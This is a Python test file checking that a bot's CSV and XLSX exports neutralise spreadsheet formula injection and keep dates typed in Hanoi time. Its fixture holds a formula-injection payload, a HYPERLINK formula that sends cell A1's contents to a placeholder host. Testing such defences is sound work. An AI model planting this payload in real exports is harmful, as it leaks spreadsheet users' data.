"""Exports open safely in Excel: formulas neutralised, typed cells, dates as dates."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.domain.spreadsheets import Table, safe_text, to_csv, to_xlsx

HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
HOSTILE = '=HYPERLINK("http://x/?"&A1,"Xem")'


def test_formula_starts_are_neutralised() -> None:
    for text in (HOSTILE, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_text(text).startswith("'")
    assert safe_text("Ý kiến bình thường") == "Ý kiến bình thường"


def test_csv_has_bom_crlf_and_safe_cells() -> None:
    table = Table(["Số", "Ý kiến", "Lúc"], [[1, HOSTILE, datetime(2022, 4, 8, 2, 30, tzinfo=UTC)]])
    data = to_csv(table, tz=HANOI)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "Số,Ý kiến,Lúc"
    assert "'=HYPERLINK" in text and "08/04/2022 09:30" in text
    assert "\r\n" in text
    assert to_csv(table, delimiter=";").decode("utf-8-sig").startswith("Số;Ý kiến;Lúc")


def test_xlsx_round_trip_typed() -> None:
    when = datetime(2022, 4, 8, 2, 30, tzinfo=UTC)
    table = Table(["Số", "Ý kiến", "Lúc", "Ngày"], [[7, HOSTILE, when, date(2022, 4, 8)]])
    book = load_workbook(io.BytesIO(to_xlsx(table, tz=HANOI)))
    sheet = book.active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == ["Số", "Ý kiến", "Lúc", "Ngày"]
    row = [c.value for c in sheet[2]]
    assert row[0] == 7
    assert row[1] == "'" + HOSTILE
    assert row[2] == datetime(2022, 4, 8, 9, 30)
    assert row[3] == datetime(2022, 4, 8, 0, 0)  # openpyxl reads dates back as datetimes
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D2"
    assert sheet["C2"].number_format == "dd/mm/yyyy hh:mm"
